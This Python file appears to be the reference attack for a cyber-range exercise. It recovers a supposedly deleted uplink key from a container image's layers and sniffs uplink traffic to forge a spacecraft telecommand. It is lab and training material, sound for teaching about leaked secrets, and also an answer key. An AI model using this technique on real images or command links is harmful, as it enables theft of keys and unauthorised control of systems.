"""Reference attack for image-keys: run on the attacker workstation, as the student.

1. Take the release ``~/ground-station-2.3.1.tar`` apart with ``tarfile`` (what ``tar``
   does by hand): ``manifest.json`` names the config and the layers; a layer holds
   ``etc/labctl/keys/uplink.key`` although a later one deletes it (``.wh.uplink.key``).
   The SPI is in the image's ``etc/labctl/ground-station.yaml``.
2. Listen on the uplink air (UDP 5101 on the rf segment) until a frame of mission control
   on that SPI goes by: its header gives the spacecraft id, its SDLS IV the SA's counter
   (the next frame must carry a higher one).
3. Build THRUSTER_FIRE with the scapy layers (TC frame of type BD, so COP-1 is not
   involved / segment header / space packet / PUS-C 8,1), protect it with the leaked key
   (SDLS AES-GCM, sequence number = highest heard + 1) and transmit it to rf-link:5100.
   (``labctl.range.uplinkair``). The spacecraft executes a command mission control never
   sent.

Exit status 0 when the forged frame was sent; 2 when a step failed (message on the last
line).
"""

from __future__ import annotations

import json
import sys
import tarfile
from pathlib import Path
from typing import IO

import yaml

from labctl.range.uplinkair import UplinkListener

RELEASE = Path.home() / "ground-station-2.3.1.tar"
WAIT_FOR_TRAFFIC_S = 90.0


def leaked() -> tuple[int, bytes]:
    """The SPI and the key the release's layers hold, whiteouts or not."""
    with tarfile.open(RELEASE) as image:
        manifest = json.load(_member(image, "manifest.json"))[0]
        history = json.load(_member(image, manifest["Config"]))["history"]
        files: dict[str, bytes] = {}
        for step, name in zip(history, manifest["Layers"], strict=True):
            with tarfile.open(fileobj=_member(image, name)) as layer:
                for member in layer:
                    extracted = layer.extractfile(member) if member.isfile() else None
                    if extracted is not None:
                        print(f"layer {name[-12:]} ({step['created_by'][:40]}): {member.name}")
                        files[member.name] = extracted.read()
    keys = [path for path in files if path.startswith("etc/labctl/keys/") and "/.wh." not in path]
    if not keys:
        raise KeyError("no key file in any layer")
    config = yaml.safe_load(files["etc/labctl/ground-station.yaml"])
    return int(config["uplink"]["sa"]["spi"]), bytes.fromhex(files[keys[0]].decode().strip())


def _member(archive: tarfile.TarFile, name: str) -> IO[bytes]:
    handle = archive.extractfile(name)
    if handle is None:
        raise KeyError(f"{name} is not a file of the archive")
    return handle


def main() -> int:
    heard = UplinkListener().start()
    try:
        spi, key = leaked()
    except (OSError, KeyError, ValueError, tarfile.TarError, yaml.YAMLError) as exc:
        print(f"cannot read the key out of {RELEASE}: {exc}", flush=True)
        return 2
    print(f"key from the image for SPI {spi}: {key.hex()}", flush=True)
    sent = heard.fire(key, spi, WAIT_FOR_TRAFFIC_S)
    if sent is None:
        print(f"no uplink frame on SPI {spi} heard: wait for mission control to command")
        return 2
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
